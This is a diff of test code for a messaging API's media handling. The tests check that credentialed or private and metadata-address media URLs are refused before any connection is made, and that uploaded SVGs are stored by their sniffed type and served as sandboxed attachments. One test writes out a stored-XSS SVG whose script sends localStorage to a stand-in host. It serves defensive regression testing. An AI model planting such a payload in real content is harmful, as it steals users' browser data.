@@ -44,6 +44,10 @@ beforeAll(async () => {
       );
     }
     if (path === '/not-a-pdf.pdf') return res.end(png());
+    if (path === '/declared-svg') {
+      res.writeHead(200, { 'content-type': 'image/svg+xml' });
+      return res.end(png());
+    }
     if (path === '/huge.png') return res.end(big);
     if (path === '/slow.png') {
       res.write(png().subarray(0, 10));
@@ -195,12 +199,29 @@ describe('sending media', () => {
       [{ type: 'image', url: `${files.url}/to-private` }, /not allowed|private/],
       [{ type: 'image', url: 'https://169.254.169.254/latest' }, /not allowed|link-local/],
       [{ type: 'image', url: 'https://10.1.2.3/a.png' }, /not allowed|private/],
+      // Refused as the body is read (the download would name the scheme first), and again by the
+      // download before it connects (no connection is made: checked in the loop).
+      [
+        { type: 'image', url: 'ftp://user:secret@example.com/a.png' },
+        /^media\.url must not carry a user name or password\.$/,
+      ],
+      [
+        { type: 'image', url: `http://user:secret@127.0.0.1:${files.port}/scan.png` },
+        /must not carry a user name or password/,
+      ],
+      [
+        { type: 'image', url: `http://user@127.0.0.1:${files.port}/scan.png` },
+        /must not carry a user name or password/,
+      ],
     ];
     for (const [media, message] of cases) {
+      const connections = files.connections;
       const r = await send({ to, media });
       expect(r.status, JSON.stringify(media)).toBe(422);
       expect(r.body.error.param, JSON.stringify(media)).toBe('media.url');
       expect(r.body.error.message, JSON.stringify(media)).toMatch(message);
+      // A URL with credentials is refused before any connection.
+      if (/user name/.test(message.source)) expect(files.connections).toBe(connections);
     }
     expect(
       (await send({ to, media: { type: 'image', url: `${files.url}/scan.png`, filename: 'x' } })).body.error
@@ -212,6 +233,25 @@ describe('sending media', () => {
     ).toBe('media.caption');
     expect(app.server.network.sent.length).toBe(before);
     expect((await app.get(`/v1/chat/messages?phone=${to}`, read)).body.data).toEqual([]);
+  });
+
+  it('through GraphQL too: a media.url with a user name or password is refused, nothing fetched', async () => {
+    const connections = files.connections;
+    const r = await app.gql(
+      'mutation($input: SendMessageInput!) { sendMessage(input: $input) { message { id } } }',
+      {
+        input: {
+          to: newPhone(),
+          media: { type: 'IMAGE', url: `http://u:p@127.0.0.1:${files.port}/scan.png` },
+        },
+      },
+      write,
+    );
+    expect(r.body.errors?.[0]).toMatchObject({
+      message: expect.stringMatching(/media\.url must not carry a user name or password\.$/),
+      extensions: { code: 'validation_failed', param: 'input.media.url' },
+    });
+    expect(files.connections).toBe(connections);
   });
 });
 
@@ -283,6 +323,55 @@ describe('a caption that failed after its image was written', () => {
 });
 
 describe('inbound media', () => {
+  const inboundImage = async (url: string, mime: string) => {
+    const r = (await app.server.network.inbound({
+      clinicPhone,
+      from: newPhone(),
+      text: null,
+      media: { url, type: 'image', mime },
+    })) as { id: string };
+    return r.id;
+  };
+  const objectOf = async (id: string) => {
+    const [row] = await app.orm.em
+      .fork()
+      .getConnection()
+      .execute(`select m.media_path from message m where m.id = ?`, [Number(id.replace(/^\D+_/, ''))]);
+    return Number(String(row.media_path).replace('med_', ''));
+  };
+
+  it('is kept under the type its bytes sniff as, not the one the network declares (image/svg+xml)', async () => {
+    const id = await inboundImage(`${files.url}/declared-svg`, 'image/svg+xml');
+    const [row] = await app.orm.em
+      .fork()
+      .getConnection()
+      .execute('select mime from media_object where id = ?', [await objectOf(id)]);
+    expect(row.mime).toBe('image/png');
+  });
+
+  it('a stored SVG (the row simulated, as the issue did) is served as an octet-stream attachment under the sandbox CSP', async () => {
+    const id = await inboundImage(`${files.url}/scan.png`, 'image/png');
+    const svg =
+      '<svg xmlns="http://www.w3.org/2000/svg"><script>fetch("//x/"+JSON.stringify(localStorage))</script></svg>';
+    await app.orm.em
+      .fork()
+      .getConnection()
+      .execute(`update media_object set mime = 'image/svg+xml', bytes = convert_to(?, 'UTF8') where id = ?`, [
+        svg,
+        await objectOf(id),
+      ]);
+    const link = (await app.get(`/v1/chat/messages/${id}/media`, read)).body.data;
+    const got = await fetch(link.url);
+    expect(got.status).toBe(200);
+    expect(Object.fromEntries(got.headers)).toMatchObject({
+      'content-type': 'application/octet-stream',
+      'content-disposition': 'attachment',
+      'content-security-policy': "sandbox; default-src 'none'",
+      'x-content-type-options': 'nosniff',
+    });
+    expect(await got.text()).toBe(svg);
+  });
+
   it('is copied from the network into the store: the link serves the copy after the original is gone', async () => {
     const from = newPhone();
     const r = (await app.server.network.inbound({
